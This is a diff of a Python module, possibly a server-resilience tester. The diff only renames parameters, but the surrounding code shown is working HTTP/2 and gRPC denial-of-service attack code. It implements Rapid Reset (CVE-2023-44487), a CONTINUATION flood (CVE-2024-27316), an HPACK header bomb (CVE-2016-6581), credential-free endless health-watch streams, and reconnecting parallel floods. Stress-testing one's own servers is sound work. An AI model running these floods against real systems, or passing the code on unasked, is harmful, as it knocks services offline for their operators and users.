@@ -39,7 +39,7 @@ async def _swallow(reader: asyncio.StreamReader) -> None:
             pass
 
 
-async def _over_h2(address: str, seconds: float, made: Callable[[int], bytes], *, sink: bool = True) -> int:
+async def _over_h2(address: str, seconds: float, created: Callable[[int], bytes], *, sink: bool = True) -> int:
     """Sends what `made` makes of a number, again and again, on a new connection whenever the server breaks
     one.
     """
@@ -51,7 +51,7 @@ async def _over_h2(address: str, seconds: float, made: Callable[[int], bytes], *
             taking = asyncio.create_task(_swallow(reader)) if sink else None
             number = 0
             while time.monotonic() < until and not (taking and taking.done()):
-                writer.write(b"".join(made(number + one) for one in range(50)))
+                writer.write(b"".join(created(number + one) for one in range(50)))
                 number += 50
                 count += 50
                 await asyncio.wait_for(writer.drain(), 1)
@@ -69,11 +69,11 @@ async def rapid_reset(http: str, at_grpc: str, seconds: float) -> int:
     """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
     head = h2.call(LIST)
 
-    def made(number: int) -> bytes:
+    def created(number: int) -> bytes:
         stream = 2 * number + 1
         return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.RESET, 0, stream, struct.pack("!I", 8))
 
-    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, made) for _ in range(4))))
+    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, created) for _ in range(4))))
 
 
 async def stream_flood(http: str, at_grpc: str, seconds: float) -> int:
@@ -93,33 +93,33 @@ async def watch_flood(http: str, at_grpc: str, seconds: float) -> int:
     """Streams of health that never end, which need no credentials."""
     head, body = h2.call(WATCH), bytes(5)
 
-    def made(number: int) -> bytes:
+    def created(number: int) -> bytes:
         stream = 2 * number + 1
         return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.DATA, h2.END_STREAM, stream, body)
 
-    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, made) for _ in range(4))))
+    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, created) for _ in range(4))))
 
 
 async def continuation_flood(http: str, at_grpc: str, seconds: float) -> int:
     """Headers that go on and on (CVE-2024-27316)."""
     piece = h2.literal(b"x", b"y" * 1000)
 
-    def made(number: int) -> bytes:
+    def created(number: int) -> bytes:
         kind = h2.CONTINUATION if number else h2.HEADERS
         return h2.frame(kind, 0, 1, piece)
 
-    return await _over_h2(at_grpc, seconds, made)
+    return await _over_h2(at_grpc, seconds, created)
 
 
 async def header_bomb(http: str, at_grpc: str, seconds: float) -> int:
     """A large header, put into the server's table once and named a thousand times in each call (CVE-2016-6581)."""
     big = h2.indexed(b"x-bomb", b"y" * 3900)
 
-    def made(number: int) -> bytes:
+    def created(number: int) -> bytes:
         head = h2.call(LIST) + (b"" if number else big) + b"\xbe" * 1000
         return h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head)
 
-    return await _over_h2(at_grpc, seconds, made)
+    return await _over_h2(at_grpc, seconds, created)
 
 
 async def ping_flood(http: str, at_grpc: str, seconds: float) -> int:
@@ -177,7 +177,7 @@ async def slow_bodies(http: str, at_grpc: str, seconds: float) -> int:
     return await _each_a_byte(http, seconds, head + b'{"')
 
 
-async def _again(http: str, seconds: float, said: bytes, callers: int = 4) -> int:
+async def _again(http: str, seconds: float, data: bytes, callers: int = 4) -> int:
     """Says something on one connection after another, and takes what comes back."""
 
     async def caller() -> int:
@@ -185,7 +185,7 @@ async def _again(http: str, seconds: float, said: bytes, callers: int = 4) -> in
         while time.monotonic() < until:
             with suppress(*BROKEN):
                 reader, writer = await _connect(http)
-                writer.write(said)
+                writer.write(data)
                 await asyncio.wait_for(writer.drain(), 5)
                 await asyncio.wait_for(reader.read(1 << 16), 30)
                 writer.transport.abort()
